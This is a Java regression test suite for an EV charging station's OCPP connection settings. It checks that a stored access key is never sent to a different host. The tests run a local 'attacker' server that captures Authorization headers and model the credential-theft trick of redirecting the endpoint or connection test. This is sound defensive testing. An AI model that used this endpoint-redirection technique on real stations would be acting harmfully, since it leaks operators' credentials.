package org.stationconfig.connection;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.annotation.Client;
import io.micronaut.json.JsonMapper;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.stationconfig.audit.AuditEntry;
import org.stationconfig.audit.AuditLog;
import org.stationconfig.audit.Category;
import org.stationconfig.auth.Api;

/**
 * Issue 11, hole 1: the write-only access key could be read by pointing a connection test at a server of one's own,
 * which received the stored key in the Basic header. The stored key now goes only to the endpoint it was configured
 * for; a test or a change aimed elsewhere must bring its own key; every test is audited.
 */
@MicronautTest(transactional = false)
class StoredAccessKeyEndpointTest extends StationUnderTest {

    static final String STORED_KEY = "00112233445566778899AABBCCDDEEFF";
    static final String OTHER_KEY = "FFEEDDCCBBAA99887766554433221100";

    @Inject
    @Client("/")
    HttpClient client;
    @Inject
    JsonMapper json;
    @Inject
    AuditLog auditLog;

    Api api;
    String installer;
    HttpServer attacker;
    final List<String> attackerSaw = new CopyOnWriteArrayList<>();

    @Override
    protected Map<String, String> extraProperties() {
        return Map.of("station.provisioning.passwords.installer", "installer-password-1");
    }

    @BeforeAll
    void logIn() {
        api = new Api(client, json);
        installer = api.token("installer", "installer-password-1");
    }

    /** A server of the attacker's: records every Authorization header it is sent and refuses the upgrade. */
    @BeforeEach
    void startAttacker() throws IOException {
        attackerSaw.clear();
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        attacker.createContext("/", exchange -> {
            attackerSaw.add(String.valueOf(exchange.getRequestHeaders().getFirst("Authorization")));
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        attacker.start();
        commission("CP-KEY", Map.of("securityProfile", 1, "accessKey", STORED_KEY));
        awaitStatus(s -> s.registration() == Registration.ACCEPTED && s.state().name().equals("CONNECTED"));
    }

    @AfterEach
    void stopAttacker() {
        attacker.stop(0);
    }

    private String attackerUrl() {
        return "ws://127.0.0.1:" + attacker.getAddress().getPort() + "/ocpp";
    }

    private Api.Reply connectionTest(Map<String, Object> values) {
        return api.call(HttpRequest.POST("/api/v1/ocpp/connection-test", Map.of("values", values)), installer);
    }

    @Test
    void aConnectionTestAgainstAnotherHostNeverSendsTheStoredKey() {
        Api.Reply refused = connectionTest(Map.of("centralSystemUrl", attackerUrl())).assertProblem(422);
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> errors = (List<Map<String, Object>>) refused.json().get("errors");
        assertEquals(List.of("accessKey"), errors.stream().map(error -> error.get("key")).toList(), refused.body());
        assertTrue(errors.get(0).get("message").toString().contains("only sent to the endpoint it was configured for"),
                refused.body());
        assertTrue(attackerSaw.isEmpty(), "the attacker's server was not even dialled: " + attackerSaw);
    }

    @Test
    void aConnectionTestThatBringsItsOwnKeySendsThatKeyAndNotTheStoredOne() {
        Api.Reply reply = connectionTest(Map.of("centralSystemUrl", attackerUrl(), "accessKey", OTHER_KEY));
        assertEquals(200, reply.status(), reply.body());
        assertEquals(false, reply.json().get("ok"), "the attacker's server answers 404");
        assertFalse(attackerSaw.isEmpty());
        assertTrue(attackerSaw.stream().allMatch(basic("CP-KEY", OTHER_KEY)::equals), attackerSaw.toString());
    }

    @Test
    void theStoredKeyStillGoesToItsOwnEndpoint() {
        csms.authorizations.clear();
        Api.Reply reply = connectionTest(Map.of("chargePointId", "CP-KEY"));
        assertEquals(true, reply.json().get("ok"), reply.body());
        assertTrue(csms.authorizations.contains(basic("CP-KEY", STORED_KEY)), csms.authorizations.toString());
    }

    @Test
    void aChangeOfTheEndpointWithoutTheKeyIsRefusedAndChangesNothing() {
        String before = settings.current().value("centralSystemUrl");
        Api.Reply refused = api.call(HttpRequest.PATCH("/api/v1/settings",
                Map.of("values", Map.of("centralSystemUrl", attackerUrl()))), installer).assertProblem(422);
        assertTrue(refused.body().contains("accessKey"), refused.body());
        assertEquals(before, settings.current().value("centralSystemUrl"));
        // a new port on the same host is another endpoint too; moving it means setting the key too, or clearing it
        String otherPort = "ws://127.0.0.1:" + (server.getPort() + 1) + "/csms";
        api.call(HttpRequest.PATCH("/api/v1/settings", Map.of("values", Map.of("centralSystemUrl", otherPort))),
                installer).assertProblem(422);
        Map<String, Object> cleared = new java.util.HashMap<>(Map.of("centralSystemUrl", otherPort, "securityProfile", 0));
        cleared.put("accessKey", null);
        Api.Reply profile0 = api.call(HttpRequest.PATCH("/api/v1/settings", Map.of("values", cleared)), installer);
        assertEquals(200, profile0.status(), profile0.body());
        assertEquals(null, settings.current().value("accessKey"), "the key went with its endpoint");
        assertTrue(attackerSaw.isEmpty());
    }

    @Test
    void movingTheEndpointAtProfile0ThenRaisingTheProfileNeverSendsTheStoredKey() {
        String before = settings.current().value("centralSystemUrl");
        // step 1: profile 0 sends no key, so the move looked harmless; the stored key is bound to its endpoint
        Api.Reply step1 = api.call(HttpRequest.PATCH("/api/v1/settings", Map.of("values",
                Map.of("centralSystemUrl", attackerUrl(), "securityProfile", 0))), installer).assertProblem(422);
        assertTrue(step1.body().contains("only sent to the endpoint it was configured for"), step1.body());
        assertEquals(before, settings.current().value("centralSystemUrl"));
        // step 2 as a connection test: the stored endpoint is still the real one, so the key stays home
        connectionTest(Map.of("centralSystemUrl", attackerUrl(), "securityProfile", 1)).assertProblem(422);
        connectionTest(Map.of("securityProfile", 1));
        assertTrue(attackerSaw.stream().noneMatch(basic("CP-KEY", STORED_KEY)::equals), attackerSaw.toString());
        assertTrue(attackerSaw.isEmpty(), attackerSaw.toString());
    }

    @Test
    void movingTheEndpointAtProfile3ThenLoweringToProfile2IsRefusedAtTheFirstStep() {
        String before = settings.current().value("centralSystemUrl");
        Api.Reply step1 = api.call(HttpRequest.PATCH("/api/v1/settings", Map.of("values", Map.of("centralSystemUrl",
                "wss://127.0.0.1:" + attacker.getAddress().getPort() + "/ocpp", "securityProfile", 3))), installer)
                .assertProblem(422);
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> errors = (List<Map<String, Object>>) step1.json().get("errors");
        assertTrue(errors.stream().anyMatch(error -> "accessKey".equals(error.get("key"))), step1.body());
        assertEquals(before, settings.current().value("centralSystemUrl"));
        assertTrue(attackerSaw.isEmpty(), attackerSaw.toString());
    }

    @Test
    void theCentralSystemCannotMoveTheStoredKeyToAnotherHost() throws Exception {
        String before = settings.current().value("centralSystemUrl");
        String answer = csms.call("CP-KEY", "ChangeConfiguration", "{\"key\":\"CentralSystemURI\",\"value\":\""
                + attackerUrl() + "\"}").get(10, java.util.concurrent.TimeUnit.SECONDS);
        assertTrue(answer.contains("Rejected"), answer);
        assertEquals(before, settings.current().value("centralSystemUrl"));
        assertTrue(attackerSaw.isEmpty(), attackerSaw.toString());
    }

    @Test
    void everyConnectionTestIsAuditedWithWhoWhereAndHowItWent() {
        long before = connectionTests().stream().mapToLong(AuditEntry::id).max().orElse(0);
        connectionTest(Map.of("centralSystemUrl", attackerUrl(), "accessKey", OTHER_KEY));
        connectionTest(Map.of("centralSystemUrl", attackerUrl()));
        List<AuditEntry> tests = connectionTests().stream().filter(entry -> entry.id() > before).toList();
        assertEquals(2, tests.size(), tests.toString());
        AuditEntry refused = tests.get(0);
        AuditEntry dialled = tests.get(1);
        assertEquals("installer", dialled.principal());
        assertTrue(dialled.message().contains(attackerUrl() + "/CP-KEY") && dialled.message().contains("HTTP_404"),
                dialled.message());
        assertTrue(refused.message().contains("refused") && refused.message().contains("accessKey"), refused.message());
        assertTrue(refused.message().contains("ws://127.0.0.1:" + attacker.getAddress().getPort()),
                "a refused test names the host it would have dialled: " + refused.message());
        tests.forEach(entry -> assertFalse(entry.message().contains(OTHER_KEY) || entry.message().contains(STORED_KEY),
                entry.message()));
    }

    /** Newest first. */
    private List<AuditEntry> connectionTests() {
        return auditLog.page(Category.CONNECTION, 0, 100).getContent().stream()
                .filter(entry -> entry.event().equals("CONNECTION_TEST")).toList();
    }

    private static String basic(String id, String hexKey) {
        byte[] user = (id + ":").getBytes(StandardCharsets.US_ASCII);
        byte[] key = HexFormat.of().parseHex(hexKey);
        byte[] both = new byte[user.length + key.length];
        System.arraycopy(user, 0, both, 0, user.length);
        System.arraycopy(key, 0, both, user.length, key.length);
        return "Basic " + Base64.getEncoder().encodeToString(both);
    }
}
